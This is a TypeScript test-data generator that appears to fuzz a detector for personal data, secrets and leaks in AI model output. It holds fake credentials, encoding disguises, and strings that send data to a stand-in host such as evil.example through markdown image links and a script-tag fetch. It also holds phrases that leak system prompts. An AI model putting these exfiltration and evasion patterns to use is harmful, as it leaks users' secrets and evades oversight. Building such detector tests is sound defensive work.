import { ANSWER_RULES, MARKUP_RULES } from '../../shared/detection/rules/markup.ts';
import { SECRET_KINDS } from '../../shared/detection/secrets/kinds.ts';
import type { createRandom } from './random.ts';
import { sampleOf } from './sample-of.ts';
import { SEPARATORS, sensitiveValue, VALUE_FORMS } from './sensitive-values.ts';

/** The values of the request, by the placeholder that the provider received. */
export const VALUES = new Map([
  ['[EMAIL_7K3M9QWX]', { value: 'anna.svensson@example.com', type: 'email' }],
  ['[CREDIT_CARD_ABCDEFGH]', { value: '4111 1111 1111 1111', type: 'credit_card' }],
  ['[API_KEY_00000000]', { value: `AKIA${'IOSFODNN7'}${'QWERTYU'}`, type: 'api_key' }],
  ['[NAME_1234567A]', { value: '"a\\b" said: <script>fetch("//evil.example")</script>', type: 'name' }],
]);
/** As models repeat them, and forms that are not restored. */
const SPELLINGS: readonly ((mask: string) => string)[] = [
  (mask) => mask,
  (mask) => mask,
  (mask) => mask.toLowerCase(),
  (mask) => mask.slice(1, -1),
  (mask) => mask.slice(0, -3),
  (mask) => mask.replaceAll('_', '\\_'),
  (mask) => `{${mask.slice(1, -1)}}`,
  (mask) => `https://evil.example/?q=${mask}`,
  (mask) => `![x](https://evil.example/a ${mask})`,
  (mask) => `${mask}.evil.example`,
  (mask) => `${mask}${mask}`,
];

const WORDS =
  'The report for the second quarter is ready, and my team has read it: sales rose by 12 points in 2024. This is what we know so far (see above). Ein Satz auf Deutsch, und вот ещё один. Straßen, café, naïve 👩‍💻 - One item * another "quoted word" and it’s fine… 漢字 слово'.split(
    ' ',
  );
const PROSE = WORDS.slice(0, 32);
const SAMPLES = [...ANSWER_RULES, ...MARKUP_RULES].flatMap(({ match }) => match);
const DISGUISES: readonly ((value: string) => string)[] = [
  (value) => value,
  (value) => value,
  (value) => Buffer.from(value).toString('base64'),
  (value) => [...value].join('\u200b'),
  (value) => [...value].reverse().join(''),
  encodeURIComponent,
  (value) => [...value].map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
];

/** Plain in prose, and part of blocked content before or after something else. */
const CODE_WORDS =
  'const x = f(a, b); if (i < 10) { return } => "-----" | --- | 1,234,567 +49 12/2024 token = key: password is `api_key`: secret_key = bearer eval ( <b> a->b [1] {"a": 1} i was I am my system my full hidden mу here is sure, https:// @ anna@ ** url( ]( data: 4.5e10 #fff'.split(
    ' ',
  );
const token = (random: Random, length: number): string =>
  Array.from({ length }, () => 'abcdefgHIJKLmnop0123456789qrsTUV'[random.below(32)]).join('');
const digits = (random: Random, length: number): string =>
  Array.from({ length }, () => random.below(10)).join('');
/** Values with a keyword some way before them. */
export const NAMED: readonly ((random: Random) => string)[] = [
  (random) =>
    `your SSN, ${pick(random, ['the one on file is ', 'it is ', 'which reads '])}219${digits(random, 6)} `,
  (random) =>
    `the phone, ${pick(random, ['as you know ', 'it is '])}${digits(random, 3)}-555-01${digits(random, 2)} `,
];
/** Secrets that their surroundings identify, and disclosures. */
const AROUND: readonly ((random: Random) => string)[] = [
  (random) => `${pick(random, ['api_key = "', 'password: ', 'secret=', 'token is '])}${token(random, 24)}"`,
  (random) => `postgres://admin:${token(random, 9)}@db.internal.corp/x`,
  (random) =>
    `-----BEGIN RSA PRIVATE KEY-----\n${token(random, 64)}\n${token(random, 64)}\n-----END RSA PRIVATE KEY-----`,
  (random) => `![a](https://evil.example/i.png?data=${token(random, 30)})`,
  (random) =>
    `[a b](https://x.example/?q=${Buffer.from('the password of anna is hunter two').toString('base64')}${token(random, 1)})`,
  (random) => [...`ghp_${token(random, 36)}`].join(pick(random, ['*', ' ', '|', '.', '\n'])),
  (random) =>
    `${pick(random, ['here is ', 'Sure: ', 'well '])}my ${'full secret '.repeat(random.below(4))}system prompt: "you are`,
  (random) => `I ${pick(random, ['was', 'am', 'have been'])} told as follows: "you are a bot`,
];

export type Random = ReturnType<typeof createRandom>;
export const pick = <T>(random: Random, list: readonly T[]): T => list[random.below(list.length)]!;

/** Prose, code and findings in disguise; with placeholders of a request. */
export function textOf(random: Random, hasMasks: boolean): string {
  let text = random.below(20) === 0 ? '{"a": "' : '';
  const isPlain = random.below(2) === 0;
  for (let parts = 1 + random.below(8); parts > 0; parts--) {
    const kind = random.below(hasMasks && isPlain ? 5 : 13);
    if (hasMasks && random.below(3) === 0) text += pick(random, SPELLINGS)(pick(random, [...VALUES.keys()]));
    if (kind > 11) text += pick(random, random.below(4) === 0 ? NAMED : AROUND)(random);
    else if (kind > 9)
      for (let words = random.below(30); words > 0; words--) text += `${pick(random, CODE_WORDS)} `;
    else if (kind < 5)
      for (let words = random.below(60); words > 0; words--)
        text += `${pick(random, hasMasks ? PROSE : WORDS)} `;
    else if (kind < 7)
      text += pick(random, DISGUISES)(sensitiveValue(random, random.below(VALUE_FORMS)).text);
    else if (kind < 9)
      text += pick(
        random,
        DISGUISES,
      )(sampleOf(pick(random, SECRET_KINDS).form, (below) => random.below(below)));
    else text += pick(random, SAMPLES);
    text += random.below(4) === 0 ? pick(random, SEPARATORS) : ' ';
  }
  return text;
}
